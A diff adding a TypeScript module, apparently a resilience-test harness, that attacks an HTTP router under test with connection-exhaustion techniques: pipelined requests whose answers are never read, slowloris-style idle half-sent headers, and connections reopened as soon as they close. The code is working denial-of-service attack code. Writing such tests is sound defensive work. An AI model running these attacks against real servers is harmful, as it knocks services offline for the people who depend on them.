@@ -1,0 +1,82 @@
+/** Attacks below the app: TCP connections and HTTP requests of which the router never sees the end. */
+import { connect, type Socket } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+import type { Count, Enough } from './orders.ts';
+import type { Router } from './wire.ts';
+
+/** A closed connection is made again after this time, in milliseconds: the attacker is in no hurry, and does not give up. */
+const AGAIN_MS = 250;
+
+function dial({ address, port }: Router): Socket {
+  return connect(port, address).on('error', () => {}); // refused; `close` follows
+}
+
+/** Asks on and on, and reads nothing: answers pile up in the router or in the kernel. */
+export async function pipeline(
+  router: Router,
+  { path, connections, requests }: { path: string; connections: number; requests: number },
+  count: Count,
+  enough: Enough,
+): Promise<void> {
+  const text = `GET ${path} HTTP/1.1\r\nHost: ${router.address}:${router.port}\r\n\r\n`.repeat(requests);
+  await keep(connections, count, enough, () => {
+    const socket = dial(router);
+    socket.once('connect', () => {
+      socket.pause();
+      socket.write(text, () => count('requests sent', requests));
+    });
+    return socket;
+  });
+}
+
+export async function idle(
+  router: Router,
+  { connections }: { connections: number },
+  count: Count,
+  enough: Enough,
+): Promise<void> {
+  let made = 0;
+  await keep(connections, count, enough, () => {
+    const socket = dial(router);
+    made += 1;
+    if (made % 2 === 0) socket.once('connect', () => socket.write('GET / HTTP/1.1\r\nHost: '));
+    return socket;
+  });
+}
+
+/** Keeps so many connections open until it is enough; each that is closed comes again after a while. */
+async function keep(connections: number, count: Count, enough: Enough, make: () => Socket): Promise<void> {
+  const open = new Set<Socket>();
+  const again = (): void => {
+    if (enough.isSaid) return;
+    const socket = make();
+    open.add(socket);
+    socket.once('connect', () => count('connections made'));
+    socket.once('close', () => {
+      open.delete(socket);
+      count('connections closed by the router');
+      void pause(AGAIN_MS).then(again);
+    });
+  };
+  for (let index = 0; index < connections; index += 1) again();
+  await enough.word;
+  count('connections held at the end', [...open].filter(({ readyState }) => readyState === 'open').length);
+  for (const socket of open) socket.destroy();
+}
+
+/** One request on a connection of its own; the status of the answer, or 0 when there was none. */
+export function ask({ address, port }: Router, path: string, headers: readonly string[]): Promise<number> {
+  return new Promise((resolve) => {
+    const socket = dial({ address, port });
+    let heard = '';
+    socket.on('data', (bytes: Buffer) => {
+      heard += bytes.toString('latin1');
+      const status = /^HTTP\/1\.1 (\d{3})/.exec(heard)?.[1];
+      if (status === undefined) return;
+      resolve(Number(status));
+      socket.destroy();
+    });
+    socket.once('close', () => resolve(0));
+    socket.write([`GET ${path} HTTP/1.1`, ...headers, '', ''].join('\r\n'));
+  });
+}
